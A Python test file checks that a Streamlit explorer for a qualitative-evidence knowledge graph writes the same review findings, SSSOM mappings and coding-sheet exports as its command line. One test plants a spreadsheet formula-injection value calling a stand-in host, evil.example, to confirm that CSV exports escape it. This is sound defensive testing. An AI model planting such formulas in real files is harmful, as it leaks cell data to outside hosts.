"""Every step of the explorer writes what the command line writes, checked by the same code.

Each step runs in Streamlit's AppTest as a researcher does it; the data it writes is compared
with what the CLI path (a reviews sheet, an SSSOM table, `qikg export-sheet`) writes.
"""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
import zipfile
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from kg.explorer.ui import md
from kg.qda import read_qda
from kg.sheets.write import write_tables
from kg.store import open_store
from kg.synthesis.model import COMPONENTS, REVIEW_COLUMNS, review_graph
from kg.synthesis.reviews import review_findings
from kg.synthesis.soqf import FORMATS
from kg.synthesis.suggest import suggest
from tests.sheets import write_sheet
from tests.test_explorer import app_on, no_errors
from tests.test_qda import SID, write_qdpx

REPO = Path(__file__).resolve().parent.parent

# --- 1. a review finding and its GRADE-CERQual assessment ----------------------------------------

ASSESSMENT = {
    "statement": "Protected time for improvement work appears to support professionals' "
    "engagement across collaboratives.",
    "explanation": "Synthesised from the candidate's findings by reading them side by side.",
    "methodological_limitations": "minor concerns",
    "methodological_limitations_explanation": "Two studies did not describe their analysis.",
    "coherence": "no or very minor concerns",
    "coherence_explanation": "The findings agree.",
    "adequacy": "moderate concerns",
    "adequacy_explanation": "Thin data in some studies.",
    "relevance": "minor concerns",
    "relevance_explanation": "Mostly Danish and British settings.",
    "confidence": "moderate confidence",
    "confidence_explanation": "Minor to moderate concerns about adequacy and relevance.",
    "assessor": "Explorer Tester",
}
ASSESSED_ON = "2026-02-03"


def fill(at: AppTest, cells: dict[str, str]) -> None:
    """Type cells of a reviews-sheet row into the writer's fields."""
    import datetime as dt

    for column, value in cells.items():
        key = f"rf_{column}"
        if column in ("confidence", *(c.column for c in COMPONENTS)):
            at.selectbox(key=key).set_value(value)
        elif column == "assessed_on":
            at.date_input(key=key).set_value(dt.date.fromisoformat(value))
        elif column in ("review_finding_id", "review", "assessor"):
            at.text_input(key=key).input(value)
        else:
            at.text_area(key=key).input(value)


def press(at: AppTest, label: str) -> AppTest:
    next(b for b in at.button if b.label == label).click()
    return at.run(timeout=120)


def review_nt(path: str, review: str = "bundled") -> set[str]:
    """The triples of a review's graph, and the assessors' descriptions, as N-Triples lines."""
    with open_store(path) as store:
        lines = store.dump("nt", review_graph(review)).decode().splitlines()
        shared = store.dump("nt", "https://w3id.org/qikg/graph/shared").decode().splitlines()
    return {line for line in lines if line.strip()} | {line for line in shared if "/agent/" in line}


def test_accepting_a_candidate_writes_what_the_reviews_sheet_writes(
    monkeypatch, fresh_store_path, built_store_path, tmp_path, cli
):
    at = app_on(monkeypatch, fresh_store_path, "synthesis")
    no_errors(at)
    at.toggle(key="synthesis_candidates").set_value(True).run(timeout=120)
    no_errors(at)
    first = suggest(open_store(built_store_path))[0]
    at.button(key="synthesis_accept_1").click().run(timeout=120)
    no_errors(at)
    assert at.session_state["rf_supporting_findings"] == first.supporting_findings
    assert at.session_state["rf_review_finding_id"] == "RF4"  # the bundled review has RF1-RF3
    assert at.session_state["rf_review"] == "bundled"
    assert not [b for b in at.button if b.label == "Import"], "checked before importing"
    fill(at, {**ASSESSMENT, "assessed_on": ASSESSED_ON})
    at.run(timeout=120)
    before = review_nt(fresh_store_path)
    press(at, "Check")
    no_errors(at)
    assert "Ready to import" in (at.success or at.warning)[0].value
    assert review_nt(fresh_store_path) == before, "the check writes nothing"
    press(at, "Import")
    no_errors(at)
    assert "Imported review bundled" in at.success[0].value
    assert at.query_params["review_finding"] == "RF4"
    assert "Review finding RF4" in [s.value for s in at.subheader]
    assert any(d.proto.label == "SoQF (docx)" for d in at.get("download_button"))

    # the same row, in the bundled reviews sheet, imported on the command line
    other = str(tmp_path / "cli-store")
    shutil.copytree(built_store_path, other)
    with (REPO / "data" / "reviews" / "reviews.csv").open(encoding="utf-8-sig") as stream:
        rows = list(csv.DictReader(stream))
    rows.append(
        {
            **ASSESSMENT,
            "review_finding_id": "RF4",
            "review": "bundled",
            "supporting_findings": first.supporting_findings,
            "shared_concepts": "; ".join(first.shared),
            "assessed_on": ASSESSED_ON,
        }
    )
    sheet = tmp_path / "my-review.xlsx"
    write_tables({"reviews": ([*REVIEW_COLUMNS, "shared_concepts"], rows)}, sheet)
    ran = cli("import", str(sheet), "--replace", store=other)
    assert ran.exit_code == 0, ran.err
    assert review_nt(fresh_store_path) == review_nt(other)
    assert before < review_nt(fresh_store_path), "RF1-RF3 are kept as they were"

    with open_store(fresh_store_path) as store:
        found = {f.review_finding_id: f for f in review_findings(store, "bundled")}
        soqf = FORMATS["md"](list(found.values())).decode()
    rf4 = found["RF4"]
    assert rf4.confidence == "moderate confidence" and rf4.assessed_on == ASSESSED_ON
    assert [j.level for j in rf4.judgements] == [
        "minor concerns",
        "no or very minor concerns",
        "moderate concerns",
        "minor concerns",
    ]
    assert ASSESSMENT["statement"] in soqf and "Moderate confidence" in soqf


def test_a_review_finding_with_a_problem_is_refused_and_nothing_written(
    monkeypatch, fresh_store_path
):
    at = app_on(monkeypatch, fresh_store_path, "synthesis")
    fill(
        at,
        {
            **ASSESSMENT,
            "supporting_findings": "carstensen2024/F1; carstensen2024/F99",
            "confidence": "",
        },
    )
    at.run(timeout=120)
    before = review_nt(fresh_store_path)
    press(at, "Check")
    assert not at.exception
    assert "Nothing can be imported" in at.error[0].value
    messages = list(at.table[-1].value["message"])
    assert any(
        'finding "carstensen2024/F99" is neither in the sheet nor in the graph' in m
        for m in messages
    )
    assert not [b for b in at.button if b.label == "Import"]
    assert review_nt(fresh_store_path) == before


def test_editing_a_review_finding_replaces_it_and_keeps_the_others(monkeypatch, fresh_store_path):
    with open_store(fresh_store_path) as store:
        old = {f.review_finding_id: f.row() for f in review_findings(store, "bundled")}
    at = app_on(monkeypatch, fresh_store_path, "synthesis", review_finding="RF2")
    press(at, "Edit this review finding")
    no_errors(at)
    assert at.session_state["rf_statement"] == old["RF2"]["statement"]
    assert "RF2 is already in review bundled: importing replaces it." in [i.value for i in at.info]
    at.selectbox(key="rf_confidence").set_value("low confidence")
    at.text_area(key="rf_confidence_explanation").input("Revised after a second reading.")
    at.run(timeout=120)
    press(at, "Check")
    no_errors(at)
    press(at, "Import")
    no_errors(at)
    with open_store(fresh_store_path) as store:
        new = {f.review_finding_id: f.row() for f in review_findings(store, "bundled")}
    assert set(new) == set(old)
    assert new["RF1"] == old["RF1"] and new["RF3"] == old["RF3"]
    assert new["RF2"] == {
        **old["RF2"],
        "confidence": "low confidence",
        "confidence_explanation": "Revised after a second reading.",
    }


# --- 2. a QDA project's codes mapped in a table -----------------------------------------------


def qda_app(monkeypatch, store_path: str, qdpx: Path) -> AppTest:
    at = app_on(monkeypatch, store_path, "validate")
    at.file_uploader(key="validate_upload").set_value(
        (qdpx.name, qdpx.read_bytes(), "application/octet-stream")
    )
    at.run(timeout=120)
    at.selectbox(key="qda_study").set_value(SID)
    return at.run(timeout=120)


@pytest.fixture
def study_store(fresh_store_path, tmp_path, cli) -> str:
    """The bundled store and the study a QDA project belongs to (its studies-sheet row)."""
    ran = cli(
        "import", str(write_sheet(tmp_path / "study.xlsx", findings=[])), store=fresh_store_path
    )
    assert ran.exit_code == 0, ran.err
    return fresh_store_path


def test_the_mapping_table_is_the_template_the_cli_writes(monkeypatch, study_store, tmp_path, cli):
    from kg.qda import import_qda
    from kg.validate import Violations

    qdpx = write_qdpx(tmp_path / "p.qdpx")
    at = qda_app(monkeypatch, study_store, qdpx)
    assert not at.exception
    assert at.dataframe, "the mapping table is shown"
    template = tmp_path / "cli.sssom.tsv"
    assert cli("mapping-template", str(qdpx), "-o", str(template), store=study_store).exit_code == 0
    assert at.session_state["qda_sssom"].decode() == template.read_text(encoding="utf-8")
    labels = [d.proto.label for d in at.get("download_button")]
    assert "Download the mapping table (SSSOM TSV)" in labels
    # the page's verdict on the untouched table is the command line's
    with open_store(study_store) as store:
        try:
            summary = import_qda(store, qdpx, SID, template, dry_run=True).report.summary()
        except Violations as exc:
            summary = exc.report.summary()
    shown = [e.value for e in (*at.error, *at.warning, *at.success)]
    assert any(summary in s for s in shown), (summary, shown)


def edit_mapping(at: AppTest, qdpx: Path, edits: dict[str, dict[str, str]]) -> AppTest:
    """Edit rows of the mapping table (by code name), as the researcher does in the grid."""
    key = f"qda_mapping_{hashlib.sha256(qdpx.read_bytes()).hexdigest()[:16]}"
    lines = at.session_state["qda_sssom"].decode().splitlines()
    names = [r.split("\t")[1] for r in lines if not r.startswith("#")][1:]
    at.session_state[key] = {
        "edited_rows": {names.index(name): cells for name, cells in edits.items()},
        "added_rows": [],
        "deleted_rows": [],
    }
    return at.run(timeout=120)


EDITS = {
    "Tidspres begrænser forbedringsarbejdet": {"object_id": "qikg:LackOfTime", "role": "barrier"},
    "Engagement 🙂": {"object_id": "sssom:NoTermFound"},
    "Andet": {"object_id": "cfir:AvailableResources", "role": "barrier"},
}


def test_an_edited_mapping_is_sssom_that_parses_and_imports_as_on_the_cli(
    monkeypatch, study_store, built_store_path, tmp_path, cli
):
    from kg.qda.mapping import read_mapping
    from kg.vocabulary import Vocabulary

    other = str(tmp_path / "cli-store")
    shutil.copytree(study_store, other)
    qdpx = write_qdpx(tmp_path / "p.qdpx")
    at = edit_mapping(qda_app(monkeypatch, study_store, qdpx), qdpx, EDITS)
    no_errors(at)
    path = tmp_path / "edited.sssom.tsv"
    path.write_bytes(at.session_state["qda_sssom"])
    project = read_qda(qdpx)
    with open_store(study_store) as store:
        mapping = read_mapping(path, project, SID, Vocabulary.from_store(store))
    assert not mapping.problems and len(mapping.rows) == len(project.codes)
    by_code = {project.codes[r.code].name: r for r in mapping.rows}
    theme = by_code["Tidspres begrænser forbedringsarbejdet"]
    assert theme.concept == "https://w3id.org/qikg/ontology#LackOfTime"
    assert theme.role == "barrier" and theme.finding
    assert by_code["Engagement 🙂"].concept is None
    assert by_code["Andet"].concept == "https://w3id.org/qikg/cfir#AvailableResources"
    line = next(r for r in path.read_text(encoding="utf-8").splitlines() if "\tAndet\t" in r)
    assert "semapv:ManualMappingCuration" in line and "Available Resources" in line

    press(at, "Import")
    no_errors(at)
    assert at.success[-1].value.startswith(f"imported p.qdpx into study {SID}")
    ran = cli("import-qda", str(qdpx), "--study", SID, "--mapping", str(path), store=other)
    assert ran.exit_code == 0, ran.err
    assert study_nt(study_store) == study_nt(other)


def study_nt(path: str) -> set[str]:
    from kg.namespaces import study_graph

    with open_store(path) as store:
        lines = store.dump("nt", study_graph(SID)).decode().splitlines()
    assert len(lines) > 50
    return set(lines)


def test_a_wrong_concept_in_the_mapping_table_is_reported_and_nothing_written(
    monkeypatch, study_store, tmp_path
):
    qdpx = write_qdpx(tmp_path / "p.qdpx")
    at = qda_app(monkeypatch, study_store, qdpx)
    before = qda_state(study_store)
    edit_mapping(at, qdpx, {"Sygeplejersker": {"object_id": "qikg:Nurze"}})
    assert not at.exception
    assert "Nothing can be imported" in at.error[0].value
    messages = " ".join(at.table[-1].value["message"])
    assert 'object_id "qikg:Nurze" is not a concept in the vocabulary' in messages
    assert not [b for b in at.button if b.label == "Import"]
    assert qda_state(study_store) == before


def qda_state(path: str) -> int:
    with open_store(path) as store:
        return len(store.dump("nq"))


# --- 3. a study exported to its coding sheet --------------------------------------------------

SEED = "carstensen2024"


def zip_members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_study_exports_to_the_coding_sheet_export_sheet_writes(
    monkeypatch, fresh_store_path, tmp_path, cli
):
    from kg.errors import BadInput
    from kg.explorer.downloads import study_sheet
    from kg.sheets.read import read_tables

    ran = cli("import", str(write_sheet(tmp_path / "new.xlsx")), store=fresh_store_path)
    assert ran.exit_code == 0, ran.err
    new = "newstudy2025"  # imported from a sheet: the graph holds no source text of it
    at = app_on(monkeypatch, fresh_store_path)
    at.selectbox(key="overview_export").set_value(SEED).run()
    no_errors(at)
    buttons = {d.proto.label: d.proto for d in at.get("download_button")}
    assert buttons[f"Coding sheet of {SEED} (.xlsx)"].disabled, "its source text needs the .zip"
    assert not buttons["… with its source text (.zip)"].disabled
    at = app_on(monkeypatch, fresh_store_path, "findings", finding=f"{new}/F1")
    buttons = {d.proto.label: d.proto for d in at.get("download_button")}
    assert not buttons[f"Coding sheet of {new} (.xlsx)"].disabled

    with open_store(fresh_store_path) as store:
        for study in (SEED, new):
            zipped = tmp_path / f"{study}.zip"
            ran = cli("export-sheet", study, "-o", str(zipped), store=fresh_store_path)
            assert ran.exit_code == 0, ran.err
            mine = zip_members(study_sheet(store, study, ".zip"))
            assert mine == zip_members(zipped.read_bytes())
        seed = zip_members(study_sheet(store, SEED, ".zip"))
        assert seed[f"sources/{SEED}.txt"], "the zip holds the source text"
        with pytest.raises(BadInput, match="cannot hold the study's source text"):
            study_sheet(store, SEED, ".xlsx")
        book = tmp_path / "mine.xlsx"
        book.write_bytes(study_sheet(store, new, ".xlsx"))
    cli_book = tmp_path / "cli.xlsx"
    assert cli("export-sheet", new, "-o", str(cli_book), store=fresh_store_path).exit_code == 0
    ours, theirs = read_tables(book), read_tables(cli_book)
    assert set(ours) == {"studies", "findings"} == set(theirs)
    for name in ours:
        assert ours[name].columns == theirs[name].columns
        assert [r.cells for r in ours[name].rows] == [r.cells for r in theirs[name].rows]
    assert ours["findings"].rows[0].get("statement").startswith("Nurses said")


# --- 4. the filtered findings downloaded ------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"nurses")'


def test_the_filtered_findings_download_as_a_sheet_and_a_safe_csv(
    monkeypatch, fresh_store_path, tmp_path, cli
):
    from kg.explorer.downloads import findings_csv, findings_tables, findings_xlsx
    from kg.namespaces import QIKG
    from kg.read.findings import FindingFilters, search_findings
    from kg.sheets.cells import restore_cell
    from kg.sheets.read import read_tables
    from tests.sheets import finding

    sheet = write_sheet(
        tmp_path / "hostile.xlsx",
        findings=[finding(statement=f"{HOSTILE} Nurses said lack of time limited their work.")],
    )
    ran = cli("import", str(sheet), store=fresh_store_path)
    assert ran.exit_code == 0, ran.err

    at = app_on(monkeypatch, fresh_store_path, "findings")
    group = str(QIKG.Nurse)
    at.multiselect(key="filter_professional_groups").set_value([group]).run()
    no_errors(at)
    labels = [d.proto.label for d in at.get("download_button")]
    assert labels[:2] == ["Download these findings (.xlsx)", "Download these findings (.csv)"]

    filters = FindingFilters(professional_groups=(group,))
    with open_store(fresh_store_path) as store:
        matching = search_findings(store, filters, limit=10_000)
        tables = findings_tables(store, filters)
        csv_bytes = findings_csv(store, filters)
        book = tmp_path / "findings.xlsx"
        book.write_bytes(findings_xlsx(store, filters))
    refs = {r.ref for r in matching.rows}
    assert len(refs) == matching.total > 1
    assert {f"{r['study_id']}/{r['finding_id']}" for r in tables["findings"][1]} == refs
    assert {r["study_id"] for r in tables["studies"][1]} == {r.split("/")[0] for r in refs}

    text = csv_bytes.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {f"{r['study_id']}/{r['finding_id']}" for r in rows} == refs
    hostile = next(r for r in rows if r["study_id"] == "newstudy2025")
    assert hostile["statement"].startswith("'=HYPERLINK"), "the CSV cell never runs as a formula"
    assert restore_cell(hostile["statement"]).startswith(HOSTILE)
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values() if c)

    read = read_tables(book)  # the workbook is a coding sheet, read back as it was written
    statements = {r.get("statement") for r in read["findings"].rows}
    assert any(s.startswith(HOSTILE) for s in statements)
    assert {f"{r.get('study_id')}/{r.get('finding_id')}" for r in read["findings"].rows} == refs


# --- 5. a compare cell opens its findings and their quotes ------------------------------------


def test_a_compare_cell_opens_its_findings_with_their_quotes(
    monkeypatch, built_store, built_store_path
):
    from kg.namespaces import QIKG
    from kg.read.findings import finding

    at = app_on(monkeypatch, built_store_path, "compare")
    at.session_state["compare_columns"] = "enablers"
    at.run()
    at.selectbox(key="compare_study").set_value(SEED).run()
    at.selectbox(key="compare_concept").set_value(str(QIKG.BottomUpApproach)).run()
    no_errors(at)
    detail = finding(built_store, f"{SEED}/F6")
    assert detail is not None and detail.quotes
    said = "\n".join(m.value for m in at.markdown)
    refs = [link.proto.label for link in at.get("page_link") if "/" in link.proto.label]
    assert f"{SEED}/F6" in refs
    for quote in detail.quotes:
        first_line = quote.text.splitlines()[0]
        assert md(first_line)[:60] in said
